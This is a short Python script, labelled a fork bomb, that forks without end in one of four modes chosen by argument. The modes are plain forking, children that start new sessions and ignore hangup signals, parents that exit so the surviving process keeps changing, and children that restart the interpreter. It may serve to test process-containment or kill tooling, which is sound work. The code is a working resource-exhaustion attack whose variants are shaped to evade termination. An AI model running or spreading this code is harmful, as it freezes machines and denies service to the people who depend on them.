# A fork bomb: every process makes as many as it can, for ever. How comes as an argument.
import os
import signal
import sys

print("begin", flush=True)
how = sys.argv[1]
while True:
    try:
        if how == "sessions" and os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
        elif how == "moving":
            # The one that is known is always gone already.
            if os.fork() and os.getpid() != 2:
                os._exit(0)
        elif how == "programs" and os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-S", *sys.argv])
        elif how == "forks":
            os.fork()
    except OSError:
        pass
